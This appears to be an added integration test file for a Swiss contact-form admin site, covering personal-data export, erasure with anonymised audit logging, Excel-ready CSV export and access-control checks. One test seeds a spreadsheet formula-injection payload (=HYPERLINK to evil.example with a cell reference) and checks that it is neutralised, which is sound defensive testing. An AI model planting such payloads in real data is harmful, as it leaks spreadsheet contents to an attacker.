@@ -1,0 +1,289 @@
+/**
+ * Issue 13, "Exports and rights", through the running site as the owner's
+ * browser uses it:
+ * - `/admin/personne` and its JSON export find a person's rows in every
+ *   table by e-mail (any case) and by telephone however it was typed;
+ * - "Effacer cette personne" names what it will erase, then erases the
+ *   person's rows from every table of the registry and nobody else's,
+ *   leaving one audit line without personal data;
+ * - `/admin/demandes.csv` is the filtered list in the format Swiss Excel
+ *   opens (BOM, `;`, CRLF, "24.11.2026 14:05"), a formula typed as a name
+ *   neutralised;
+ * - without a session every new door refuses (303 to the sign-in page,
+ *   401 for `.data`), and an erasure posted from another origin is refused
+ *   (403) with nothing erased.
+ */
+import { parse } from "csv-parse/sync";
+import { eq, sql } from "drizzle-orm";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { auditLog, contacts, deskUser, outbox } from "../../app/db/schema";
+import { setStatus } from "../../app/desk/requests.server";
+import { countsOf, findPerson, PERSON_TABLES, tableKey, type PersonKey } from "../../app/desk/person.server";
+import {
+  createOwner,
+  deskFetch,
+  postContact,
+  signIn,
+  startTestServer,
+  validForm,
+  type CookieJar,
+} from "../support/harness";
+
+let site: Awaited<ReturnType<typeof startTestServer>>;
+let jar: CookieJar;
+let ownerId: string;
+
+const marie: PersonKey = { email: "marie.dupont@example.ch", phoneE164: "+41791234567" };
+const jean: PersonKey = { email: "jean.muller@example.ch", phoneE164: "+41217654321" };
+
+/** Posts a request from the public form; resolves with its id. */
+async function sendRequest(fields: Record<string, string>): Promise<number> {
+  const answer = await postContact(site.url, { ...validForm(), ...fields });
+  expect(answer.status, answer.body.slice(0, 200)).toBeLessThan(400);
+  const [row] = await site.database.db
+    .select({ id: contacts.id })
+    .from(contacts)
+    .orderBy(sql`${contacts.id} desc`)
+    .limit(1);
+  return row!.id;
+}
+
+/** The visible text of an HTML page (tags and word joiners dropped, spaces, no-break ones too, collapsed). */
+const textOf = (html: string) =>
+  html
+    .replace(/<script[\s\S]*?<\/script>/g, "")
+    .replace(/<!-- -->/g, "")
+    .replace(/<[^>]+>/g, " ")
+    .replace(/&#x27;|&#39;/g, "'")
+    .replace(/&quot;/g, '"')
+    .replace(/&amp;/g, "&")
+    .replace(/\u2060/g, "")
+    .replace(/\s+/g, " ");
+
+beforeAll(async () => {
+  site = await startTestServer({});
+  const owner = await createOwner(site.database.db);
+  const [user] = await site.database.db.select({ id: deskUser.id }).from(deskUser);
+  ownerId = user!.id;
+  jar = await signIn(site.url, owner);
+
+  // Marie: one request with her e-mail in capitals and her mobile typed the Swiss way, a second
+  // from another address with the same mobile typed internationally, a status change, and a mail
+  // that is linked to no request but carries her e-mail in its data (as rows written before mails
+  // were rendered did). Her first request asks for the newsletter: a pending subscription and its mail.
+  const first = await sendRequest({ email: "Marie.Dupont@Example.ch", phone: "079 123 45 67" });
+  await sendRequest({ email: "m.dupont@example.org", phone: "+41 79 123 45 67" });
+  await setStatus(site.database.db, first, "en-cours");
+  await site.database.db
+    .insert(outbox)
+    .values({ kind: "newsletter-confirmation", payload: { email: "marie.dupont@example.ch" } });
+  // Jean, who asked nothing, and whose rows must stay.
+  await sendRequest({
+    firstName: "Jean",
+    lastName: "Muller",
+    email: jean.email!,
+    phone: "021 765 43 21",
+    message: "Mon voisin, Marie Dupont, m’a parlé de vous.",
+  });
+}, 120_000);
+
+afterAll(async () => {
+  await site?.close();
+});
+
+describe("without a session", () => {
+  it("sends every new page to the sign-in page, and data requests get 401", async () => {
+    for (const path of [
+      "/admin/personne",
+      "/admin/personne?email=marie.dupont%40example.ch",
+      "/admin/personne.json?email=marie.dupont%40example.ch",
+      "/admin/demandes.csv",
+    ]) {
+      const answer = await deskFetch(site.url, path);
+      expect(answer.status, path).toBe(303);
+      expect(answer.headers.get("location"), path).toBe("/admin/connexion");
+      expect(await answer.text(), path).not.toContain("Dupont");
+    }
+    const data = await deskFetch(site.url, "/admin/personne.data?email=marie.dupont%40example.ch");
+    expect(data.status).toBe(401);
+  });
+  it("erases nothing when the erasure is posted without a session", async () => {
+    const answer = await deskFetch(site.url, "/admin/personne", { form: { email: marie.email! } });
+    expect(answer.status).toBe(303);
+    expect(answer.headers.get("location")).toBe("/admin/connexion");
+    expect(countsOf(await findPerson(site.database.db, marie)).contacts).toBe(2);
+  });
+});
+
+describe("the person's data", () => {
+  it("exports by e-mail, whatever its case: her requests under that address and every mail carrying it", async () => {
+    const answer = await deskFetch(site.url, "/admin/personne.json?email=MARIE.DUPONT%40example.CH", { jar });
+    expect(answer.status).toBe(200);
+    expect(answer.headers.get("content-type")).toMatch(/^application\/json/);
+    expect(answer.headers.get("content-disposition")).toMatch(
+      /^attachment; filename="donnees-personne-\d{4}-\d{2}-\d{2}\.json"$/,
+    );
+    const exported = (await answer.json()) as { tables: Record<string, Record<string, unknown>[]> };
+    expect(exported.tables.contacts!.map((row) => row.email)).toEqual(["Marie.Dupont@Example.ch"]);
+    expect(exported.tables.contact_events).toHaveLength(1);
+    // Her request's notification, the confirmation mail the contact form's newsletter box asked for,
+    // and the older mail whose data carries her address.
+    expect(exported.tables.outbox!.map((row) => row.kind).sort()).toEqual([
+      "contact-notification",
+      "newsletter-confirmation",
+      "newsletter-confirmation",
+    ]);
+    expect(exported.tables.newsletter_subscribers!.map((row) => row.status)).toEqual(["pending"]);
+  });
+  it("exports by telephone typed either way: both of her requests, not Jean's", async () => {
+    for (const typed of ["079 123 45 67", "+41791234567"]) {
+      const answer = await deskFetch(site.url, `/admin/personne.json?telephone=${encodeURIComponent(typed)}`, {
+        jar,
+      });
+      const exported = (await answer.json()) as { tables: Record<string, Record<string, unknown>[]> };
+      expect(exported.tables.contacts!.map((row) => row.phone).sort(), typed).toEqual([
+        "+41 79 123 45 67",
+        "079 123 45 67",
+      ]);
+      expect(exported.tables.outbox, typed).toHaveLength(2);
+    }
+  });
+  it("shows every row on the page, table by table, and says what is wrong with a telephone it cannot read", async () => {
+    const page = textOf(
+      await (
+        await deskFetch(site.url, "/admin/personne?email=marie.dupont%40example.ch&telephone=0791234567", { jar })
+      ).text(),
+    );
+    expect(page).toContain("Trouvé : 2 demandes de contact, 1 changement de statut, 1 abonnement et 4 e-mails.");
+    expect(page).toContain("Demandes de contact (2)");
+    expect(page).toContain("m.dupont@example.org");
+    expect(page).toContain("Nouveau → En cours");
+    expect(page).not.toContain("Muller");
+    const wrong = textOf(await (await deskFetch(site.url, "/admin/personne?telephone=abc", { jar })).text());
+    expect(wrong).toContain("Ce numéro de téléphone n’est pas lisible");
+  });
+  it("names what the erasure will remove before anything is erased", async () => {
+    const page = textOf(
+      await (
+        await deskFetch(site.url, "/admin/personne?email=marie.dupont%40example.ch&telephone=0791234567&effacer=1", {
+          jar,
+        })
+      ).text(),
+    );
+    expect(page).toContain(
+      "Cela efface définitivement : 2 demandes de contact, 1 changement de statut, 1 abonnement et 4 e-mails.",
+    );
+    expect(page).toContain("Oui, effacer définitivement");
+    expect(countsOf(await findPerson(site.database.db, marie)).contacts).toBe(2);
+  });
+});
+
+describe("the CSV of the requests", () => {
+  it("is the filtered list as Swiss Excel opens it, a formula typed as a name neutralised", async () => {
+    await sendRequest({
+      firstName: '=HYPERLINK("https://evil.example/?d="&C2,"Cliquez")',
+      lastName: "Dupont",
+      email: "piege@example.ch",
+    });
+    const answer = await deskFetch(site.url, "/admin/demandes.csv?q=dupont", { jar });
+    expect(answer.status).toBe(200);
+    expect(answer.headers.get("content-type")).toBe("text/csv; charset=utf-8");
+    expect(answer.headers.get("content-disposition")).toMatch(
+      /^attachment; filename="demandes-\d{4}-\d{2}-\d{2}\.csv"$/,
+    );
+    const bytes = Buffer.from(await answer.arrayBuffer());
+    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    const text = bytes.toString("utf8");
+    expect(text.split("\r\n")[0]).toBe(
+      "\uFEFFN°;Reçue le;Statut;Prénom;Nom;E-mail;Téléphone;Service;Message;Lettre d’information;Consentement le;Note",
+    );
+    const rows = parse(text, { bom: true, delimiter: ";", columns: true }) as Record<string, string>[];
+    // The requests matching "dupont", newest first: the trap, then Marie's two; not Jean's.
+    expect(rows.map((row) => row["E-mail"])).toEqual([
+      "piege@example.ch",
+      "m.dupont@example.org",
+      "Marie.Dupont@Example.ch",
+    ]);
+    expect(rows[0]!["Prénom"]).toBe(`'=HYPERLINK("https://evil.example/?d="&C2,"Cliquez")`);
+    const [stored] = await site.database.db
+      .select({ createdAt: contacts.createdAt })
+      .from(contacts)
+      .where(eq(contacts.email, "piege@example.ch"));
+    const received = new Intl.DateTimeFormat("de-CH", {
+      timeZone: "Europe/Zurich",
+      day: "2-digit",
+      month: "2-digit",
+      year: "numeric",
+      hour: "2-digit",
+      minute: "2-digit",
+    })
+      .format(new Date(stored!.createdAt))
+      .replace(",", "");
+    expect(rows[0]!["Reçue le"]).toBe(received);
+    expect(rows[2]).toMatchObject({
+      Statut: "En cours",
+      Nom: "Dupont",
+      Téléphone: "079 123 45 67",
+      Message: "Bonjour,\nj’aimerais apprendre à utiliser mon smartphone.",
+      "Lettre d’information": "Oui",
+    });
+    const inProgress = await deskFetch(site.url, "/admin/demandes.csv?statut=en-cours&q=dupont", { jar });
+    const filtered = parse(await inProgress.text(), { bom: true, delimiter: ";", columns: true }) as Record<
+      string,
+      string
+    >[];
+    expect(filtered.map((row) => row["E-mail"])).toEqual(["Marie.Dupont@Example.ch"]);
+  });
+});
+
+describe("erasing a person", () => {
+  const form = { email: "marie.dupont@example.ch", telephone: "079 123 45 67" };
+
+  it("refuses an erasure posted from another origin, and erases nothing", async () => {
+    const answer = await deskFetch(site.url, "/admin/personne", {
+      jar,
+      form,
+      headers: { Origin: "https://evil.example" },
+    });
+    // 403 from the desk's guard, or 400 where React Router's own origin check answers first.
+    expect([400, 403]).toContain(answer.status);
+    expect(countsOf(await findPerson(site.database.db, marie))).toEqual({
+      contacts: 2,
+      contact_events: 1,
+      newsletter_subscribers: 1,
+      outbox: 4,
+    });
+  });
+
+  it("erases her rows from every table, leaves Jean's, and audits counts only", async () => {
+    const before = countsOf(await findPerson(site.database.db, marie));
+    // Every table of the registry has rows of hers here: a table added to the registry must be seeded above.
+    for (const entry of PERSON_TABLES) expect(before[tableKey(entry)], tableKey(entry)).toBeGreaterThan(0);
+    const jeanBefore = countsOf(await findPerson(site.database.db, jean));
+
+    const answer = await deskFetch(site.url, "/admin/personne", { jar, form });
+    expect(answer.status).toBe(303);
+    expect(answer.headers.get("location")).toBe(
+      "/admin/personne?effacement=contacts:2,contact_events:1,newsletter_subscribers:1,outbox:4",
+    );
+    const result = textOf(await (await deskFetch(site.url, answer.headers.get("location")!, { jar })).text());
+    expect(result).toContain(
+      "Effacement terminé : 2 demandes de contact, 1 changement de statut, 1 abonnement et 4 e-mails.",
+    );
+
+    const after = countsOf(await findPerson(site.database.db, marie));
+    expect(after).toEqual(Object.fromEntries(PERSON_TABLES.map((entry) => [tableKey(entry), 0])));
+    expect(countsOf(await findPerson(site.database.db, jean))).toEqual(jeanBefore);
+    expect(jeanBefore.contacts).toBe(1);
+
+    const audits = await site.database.db.select().from(auditLog).where(eq(auditLog.action, "erasure"));
+    expect(audits).toHaveLength(1);
+    expect(audits[0]).toMatchObject({
+      actor: ownerId,
+      details: { contacts: 2, contact_events: 1, newsletter_subscribers: 1, outbox: 4 },
+    });
+    const written = JSON.stringify(audits[0]).toLowerCase();
+    for (const personal of ["marie", "dupont", "@", "079", "791234567", "example"])
+      expect(written).not.toContain(personal);
+  });
+});
